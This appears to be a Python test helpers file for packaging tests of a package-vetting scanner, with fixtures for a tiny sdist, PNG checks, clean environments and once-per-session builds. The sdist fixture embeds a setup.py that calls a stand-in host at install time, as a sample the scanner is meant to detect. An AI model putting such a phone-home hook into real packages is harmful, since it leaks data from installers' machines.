"""Helpers for the packaging tests: a tiny sdist to scan, PNG headers, clean environments."""

from __future__ import annotations

import fcntl
import io
import json
import os
import shutil
import struct
import tarfile
import traceback
from collections.abc import Callable
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]

# A setup.py that phones home at install time: something `vetbench scan` must report.
# Documentation-range address only (RFC 5737); the file is never executed.
_SETUP_PY = b"""from setuptools import setup
import urllib.request

urllib.request.urlopen("http://192.0.2.10/collect?host=x").read()
setup(name="tinypkg", version="1.0")
"""
_PKG_INFO = b"Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n"


@pytest.fixture
def tiny_sdist(tmp_path: Path) -> Path:
    """``tinypkg-1.0.tar.gz``: PKG-INFO plus a setup.py that fetches a URL at install time."""
    path = tmp_path / "tinypkg-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in (
            ("PKG-INFO", _PKG_INFO),
            ("setup.py", _SETUP_PY),
            ("tinypkg/__init__.py", b"VERSION = '1.0'\n"),
        ):
            info = tarfile.TarInfo(f"tinypkg-1.0/{name}")
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


def png_size(path: Path) -> tuple[int, int]:
    """(width, height) from a PNG's IHDR chunk; AssertionError if it is not a PNG."""
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    assert head[12:16] == b"IHDR"
    return struct.unpack(">II", head[16:24])


def clean_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """An environment that shares nothing with the developer's venv or data dirs."""
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in {"VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME", "VETBENCH_DB"}
    }
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    env.update(
        HOME=str(home),
        XDG_DATA_HOME=str(home / "data"),
        XDG_CONFIG_HOME=str(home / "config"),
        XDG_CACHE_HOME=str(home / "cache"),
        QT_QPA_PLATFORM="offscreen",
        LANG="C.UTF-8",
    )
    # pip's cache stays the developer's, so a fresh venv reuses downloaded wheels.
    env.setdefault("PIP_CACHE_DIR", str(Path.home() / ".cache" / "pip"))
    env.update(extra)
    return env


def project_version() -> str:
    import tomllib

    with open(REPO / "pyproject.toml", "rb") as f:
        return tomllib.load(f)["project"]["version"]


def build_once(tmp_path_factory, name: str, build: Callable[[Path], dict]) -> dict:
    """Run ``build(folder)`` once per test session, even with pytest-xdist's several workers.

    Building a wheel, a venv or a bundle takes tens of seconds, and xdist would otherwise
    repeat a module fixture in every worker. The first worker builds under a lock; the others
    read its JSON result (or its failure, re-raised here) from the shared base temp folder.
    """
    root = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent  # shared by all workers of this run
    folder, done = root / name, root / f"{name}.json"
    with open(root / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not done.exists():
            folder.mkdir(exist_ok=True)
            try:
                outcome = {"ok": build(folder)}
            except BaseException as exc:  # noqa: BLE001 - recorded, then re-raised below
                outcome = {"error": "".join(traceback.format_exception_only(exc)).strip()}
            done.write_text(json.dumps(outcome))
    outcome = json.loads(done.read_text())
    if "error" in outcome:
        pytest.fail(f"{name} failed: {outcome['error']}", pytrace=False)
    return outcome["ok"]


def copy_source_tree(target: Path) -> Path:
    """What a clean checkout needs to build the wheel, copied so builds never write to REPO."""
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc")
    for name in ("pyproject.toml", "MANIFEST.in", "README.md"):
        shutil.copy2(REPO / name, target / name)
    for name in ("app", "resources"):
        shutil.copytree(REPO / name, target / name, ignore=ignore)
    (target / "packaging").mkdir()
    shutil.copy2(REPO / "packaging" / "wheel_resources.py", target / "packaging")
    return target
